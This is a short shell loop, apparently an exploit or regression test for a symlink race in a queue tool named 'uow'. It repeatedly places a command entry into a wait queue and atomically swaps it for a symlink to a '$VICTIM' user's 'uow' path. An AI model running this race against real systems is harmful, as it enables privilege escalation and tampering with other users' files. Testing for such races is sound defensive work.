for n in $(seq 25); do
	uow "COMMAND :: true" >$OUT/own
	mv $OUT/own wait-q/swapped-for-link
	ln -sfn "$VICTIM/uow" $OUT/swap
	mv -T $OUT/swap wait-q/swapped-for-link
done
